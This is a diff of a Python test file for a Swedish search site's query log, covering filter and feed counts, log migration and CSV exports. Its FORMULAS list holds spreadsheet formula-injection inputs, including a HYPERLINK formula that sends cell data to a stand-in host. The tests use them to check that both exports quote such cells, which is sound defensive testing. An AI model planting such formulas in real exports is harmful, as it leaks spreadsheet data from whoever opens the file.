@@ -3,7 +3,9 @@ and no lost write under load from the real production server."""
 
 from __future__ import annotations
 
+import csv
 import datetime
+import io
 import os
 import sqlite3
 import subprocess
@@ -17,6 +19,7 @@ from indexer.build import build
 from testkit.server import get, running_server
 from webapp import create_app
 from webapp import querylog as querylog_module
+from webapp.insights import inert, report
 from webapp.querylog import QueryLog, log_path, mask, normalise
 
 from .conftest import PROGRAM_PAGE, REPO, write_corpus
@@ -181,12 +184,13 @@ def test_the_log_keeps_day_query_and_outcomes_and_no_column_for_a_person(site):
     connection = searched(app, "Hamn", "hamn", "zzzxq", "planerng", "hamn kaj zzzxq", "ring 070-123 45 67")
     columns = {
         table: [row[1] for row in connection.execute(f"PRAGMA table_info({table})")]
-        for table in ("searches", "synonyms", "opened", "counts")
+        for table in ("searches", "synonyms", "opened", "feeds", "counts")
     }
     assert columns == {
-        "searches": ["day", "query", "searches", "zero_hits", "partial", "typo", "synonym", "hits"],
+        "searches": ["day", "query", "searches", "zero_hits", "partial", "typo", "synonym", "hits", "filtered"],
         "synonyms": ["day", "word", "fired"],
         "opened": ["day", "query", "section", "opened"],
+        "feeds": ["day", "query", "polls"],
         "counts": ["name", "value"],
     }, "only days, queries and counts: no address, user agent, cookie, session or time of day"
     today = datetime.date.today().isoformat()
@@ -242,11 +246,13 @@ def test_rows_older_than_the_retention_are_pruned(site):
 
     with connect(path) as connection:
         for day in (old, kept):
-            connection.execute("INSERT INTO searches VALUES (?, 'gammal', 1, 0, 0, 0, 0, 1)", (day,))
+            connection.execute("INSERT INTO searches VALUES (?, 'gammal', 1, 0, 0, 0, 0, 1, 0)", (day,))
             connection.execute("INSERT INTO opened VALUES (?, 'gammal', 'p/x', 1)", (day,))
+            connection.execute("INSERT INTO feeds VALUES (?, 'gammal', 1)", (day,))
     connection = searched(app, "hamn")
     assert [row[0] for row in rows(connection, "searches")] == [kept, datetime.date.today().isoformat()], "pruned"
     assert [row[0] for row in rows(connection, "opened")] == [kept], "opened rows pruned too"
+    assert [row[0] for row in rows(connection, "feeds")] == [kept], "feed polls pruned too"
 
 
 def test_a_broken_log_database_never_breaks_a_search_and_the_loss_is_counted(site, tmp_path, caplog):
@@ -288,7 +294,7 @@ def test_the_insights_page_shows_the_tables_in_swedish(site):
     html = page.get_data(as_text=True)
     assert page.status_code == 200, "answered"
     assert '<html lang="sv">' in html, "a Swedish page"
-    assert html.count("<caption>") == 6, "six tables, each with a caption"
+    assert html.count("<caption>") == 7, "seven tables, each with a caption"
     assert '<th scope="row">zzzxq</th>' in html.split('id="utan-traffar"')[1].split("</table>")[0], "zero hits"
     assert '<th scope="row">sjöfart</th>' in html.split('id="synonymer"')[1].split("</table>")[0], "synonyms"
     assert "style=" not in html, "no inline style (the CSP forbids it)"
@@ -302,9 +308,10 @@ def test_the_csv_export_has_every_query_with_its_totals(site):
     response = app.test_client().get("/insikter.csv", headers={"X-Insights-Token": TOKEN})
     assert response.mimetype == "text/csv", "a CSV file"
     assert response.get_data(as_text=True).splitlines() == [
-        "fråga,sökningar,utan träffar,delvis träff,stavningsrättad,med synonym,träffar senast,öppnade avsnitt",
-        "hamn,2,0,0,0,0,2,0",
-        "zzzxq,1,1,0,0,0,0,0",
+        "fråga,sökningar,med filter,utan träffar,delvis träff,stavningsrättad,med synonym,träffar senast,"
+        "öppnade avsnitt",
+        "hamn,2,0,0,0,0,0,2,0",
+        "zzzxq,1,0,1,0,0,0,0,0",
     ], "one row per query"
 
 
@@ -331,7 +338,7 @@ def test_the_cli_reports_the_log(site):
         text=True,
         timeout=60,
     )
-    assert as_csv.stdout.splitlines()[1:] == ["hamn,1,0,0,0,0,2,0", "zzzxq,1,1,0,0,0,0,0"], as_csv.stdout
+    assert as_csv.stdout.splitlines()[1:] == ["hamn,1,0,0,0,0,0,2,0", "zzzxq,1,0,1,0,0,0,0,0"], as_csv.stdout
 
 
 def test_the_cli_says_in_one_line_when_the_log_is_unreadable(tmp_path):
@@ -392,3 +399,128 @@ def test_a_search_logged_while_another_worker_holds_the_database_is_written_late
     assert dict(connection.execute("SELECT query, searches FROM searches")) == {"hamn": 2, "kaj": 1}, "all written"
     assert dict(connection.execute("SELECT * FROM counts")) == {"written": 3, "dropped": 0}, "none dropped"
     assert not [r for r in caplog.records if "dropped" in r.getMessage()], "no loss logged"
+
+
+# -- what a count means: filters and feeds ----------------------------------------------------------
+
+
+def test_a_filter_that_leaves_nothing_is_a_search_for_the_words_but_never_a_zero_hit(site):
+    """ "hamn" finds sections; "hamn" among the Kunskapsprojekt finds none, and "samverkan" in a län that does not
+    exist finds none: the words work, so the editors' table of queries with no hits must not list them."""
+    app = site()
+    client = app.test_client()
+    assert client.get("/api/search", query_string={"q": "hamn", "kind": "Kunskapsprojekt"}).get_json()["total"] == 0
+    assert client.get("/api/search", query_string={"q": "samverkan", "region": "Kalmar"}).get_json()["total"] == 0
+    connection = searched(app, "hamn")
+    by_query = {row["query"]: row for row in _report(app)["queries"]}
+    assert by_query["hamn"]["searches"] == 2, "both searches for hamn are counted"
+    assert by_query["hamn"]["filtered"] == 1, "one of them with a filter"
+    assert by_query["hamn"]["zero_hits"] == 0, "the filtered search that found nothing is no zero hit"
+    assert by_query["hamn"]["hits"] == 2, "the hit figure is the unfiltered search's"
+    assert by_query["samverkan"]["zero_hits"] == 0, "searched only with a filter: no zero hit either"
+    assert by_query["samverkan"]["hits"] is None, "and no hit figure: the words' own total is not known"
+    assert _report(app)["zero_hits"] == [], "no query with no hits"
+    assert connection.execute("SELECT hits FROM searches WHERE query = 'hamn'").fetchone() == (2,), "row's hits"
+
+
+def test_a_search_without_a_filter_that_finds_nothing_is_still_a_zero_hit(site):
+    app = site()
+    assert app.test_client().get("/", query_string={"q": "zzzxq", "kind": "Kunskapsprojekt"}).status_code == 200
+    searched(app, "zzzxq")
+    (zero,) = _report(app)["zero_hits"]
+    assert (zero["query"], zero["searches"], zero["zero_hits"]) == ("zzzxq", 2, 1), "one of two, the unfiltered"
+
+
+def test_feed_polls_are_counted_apart_from_searches(site):
+    """A feed reader polling every 15 minutes is not 96 visitors a day."""
+    app = site()
+    client = app.test_client()
+    for _ in range(5):
+        assert client.get("/feed", query_string={"q": "landström hamn"}).status_code == 200, "the feed answers"
+    searched(app, "hamn")
+    found = _report(app)
+    assert [q["query"] for q in found["queries"]] == ["hamn"], "the polls are no searches"
+    assert found["feeds"] == [{"query": "landström hamn", "polls": 5, "days": 1}], "they are polls of a feed"
+    page = client.post("/insikter", data={"token": TOKEN}).get_data(as_text=True)
+    feeds_table = page.split('id="floden"')[1].split("</table>")[0]
+    assert '<th scope="row">landström hamn</th>' in feeds_table, "the page shows the followed search"
+
+
+def test_a_log_written_before_filters_and_feeds_is_read_and_then_upgraded(site):
+    """An existing log (the columns of the first version) is read as it is, and the first writer adds the rest."""
+    app = site()
+    path = log_path(app.config["INDEX_DIR"])
+    with sqlite3.connect(path) as old:
+        old.executescript(
+            "CREATE TABLE searches (day TEXT NOT NULL, query TEXT NOT NULL, searches INTEGER NOT NULL,"
+            " zero_hits INTEGER NOT NULL, partial INTEGER NOT NULL, typo INTEGER NOT NULL, synonym INTEGER NOT NULL,"
+            " hits INTEGER NOT NULL, PRIMARY KEY (day, query)) WITHOUT ROWID;"
+            "CREATE TABLE synonyms (day TEXT NOT NULL, word TEXT NOT NULL, fired INTEGER NOT NULL,"
+            " PRIMARY KEY (day, word)) WITHOUT ROWID;"
+            "CREATE TABLE opened (day TEXT NOT NULL, query TEXT NOT NULL, section TEXT NOT NULL,"
+            " opened INTEGER NOT NULL, PRIMARY KEY (day, query, section)) WITHOUT ROWID;"
+            "CREATE TABLE counts (name TEXT PRIMARY KEY, value INTEGER NOT NULL) WITHOUT ROWID;"
+            "INSERT INTO searches VALUES ('2026-11-02', 'kaj', 3, 1, 0, 0, 0, 0);"
+        )
+    old.close()
+    before = _report(app)["queries"]
+    assert [(q["query"], q["filtered"], q["zero_hits"]) for q in before] == [("kaj", 0, 1)], "read as it is"
+    searched(app, "kaj")
+    after = {q["query"]: q for q in _report(app)["queries"]}
+    assert after["kaj"]["searches"] == 4, "the new search is added to the old rows"
+    assert querylog_module.connect(path).execute("SELECT SUM(filtered) FROM searches").fetchone() == (0,), "column"
+
+
+FORMULAS = ['=HYPERLINK("http://x/?"&A1,"k")', "+SUM(1,2)", "@SUM(1)", "-hamn", "=1+1 hamn", "＝1+1"]
+
+
+@pytest.fixture(scope="module")
+def csv_exports(fixture_index, tmp_path_factory) -> dict[str, dict[str, list[str]]]:
+    """Each formula and "hamn" searched through the app, then both CSV exports, as rows by their first cell."""
+    log = tmp_path_factory.mktemp("csv") / "log.sqlite3"
+    config = {"INDEX_DIR": str(fixture_index), "QUERY_LOG_FILE": str(log), "INSIGHTS_TOKEN": TOKEN}
+    app = create_app({"TESTING": True, **config})
+    client = app.test_client()
+    for q in [*FORMULAS, "hamn"]:
+        assert client.get("/", query_string={"q": q}).status_code == 200, q
+    app.extensions["querylog"].close()
+    env = {**os.environ, **{f"FLASK_{key}": value for key, value in config.items()}}
+    texts = {
+        "POST /insikter.csv": client.post("/insikter.csv", data={"token": TOKEN}).get_data(as_text=True),
+        "insights --csv": subprocess.run(
+            [sys.executable, "-m", "webapp", "insights", "--csv"],
+            cwd=REPO,
+            env=env,
+            capture_output=True,
+            text=True,
+            timeout=60,
+            check=True,
+        ).stdout,
+    }
+    return {export: {row[0]: row for row in csv.reader(io.StringIO(text))} for export, text in texts.items()}
+
+
+@pytest.mark.parametrize("export", ["POST /insikter.csv", "insights --csv"])
+@pytest.mark.parametrize("query", FORMULAS)
+def test_a_query_that_a_spreadsheet_would_run_is_text_in_both_csv_exports(csv_exports, export, query):
+    rows = csv_exports[export]
+    assert "'" + normalise(query) in rows, f"{query!r} is written with a leading quote, so it is text: {list(rows)}"
+    assert normalise(query) not in rows, f"{query!r} is never written as it is"
+
+
+@pytest.mark.parametrize("export", ["POST /insikter.csv", "insights --csv"])
+def test_the_numbers_of_the_csv_stay_numbers(csv_exports, export):
+    hamn = csv_exports[export]["hamn"]
+    assert hamn[1:] == ["1", "0", "0", "0", "0", "0", "2", "0"], f"hamn's counts are plain numbers: {hamn}"
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [("=1+1", "'=1+1"), ("-hamn", "'-hamn"), ("\tx", "'\tx"), ("hamn", "hamn"), ("a=b", "a=b"), (-3, -3), (0, 0)],
+)
+def test_only_text_that_starts_a_formula_is_quoted_and_numbers_are_kept(cell, written):
+    assert inert(cell) == written, f"{cell!r} is written as {inert(cell)!r}"
+
+
+def _report(app) -> dict:
+    return report(log_path(app.config["INDEX_DIR"]))
